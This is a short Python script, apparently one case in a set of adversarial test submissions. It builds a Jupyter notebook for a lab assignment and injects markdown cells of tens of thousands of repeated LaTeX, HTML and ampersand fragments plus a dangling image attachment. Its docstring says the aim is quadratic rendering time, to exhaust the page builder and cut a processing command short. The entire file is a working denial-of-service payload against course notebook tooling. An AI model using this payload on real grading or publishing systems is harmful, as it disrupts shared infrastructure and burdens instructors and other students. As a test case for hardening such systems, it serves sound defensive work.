"""
attack: Markdown whose rendering takes a time of the square of its length, and pictures that are not there
after: the time of whoever makes pages for the class, and a command that ends at this submission
"""

import json
from pathlib import Path

SLOW = ("\\begin{a}" * 20_000, "<b>" * 60_000, "<div>\n" * 30_000, "&" * 190_000, "![x](attachment:nowhere)")


def submit(folder: Path, notebook: dict) -> None:
    for number, text in enumerate(SLOW):
        notebook["cells"].append(
            {"cell_type": "markdown", "id": f"slow-{number}", "metadata": {}, "source": text}
        )
    (folder / "mod-1-lab-1.ipynb").write_text(json.dumps(notebook))
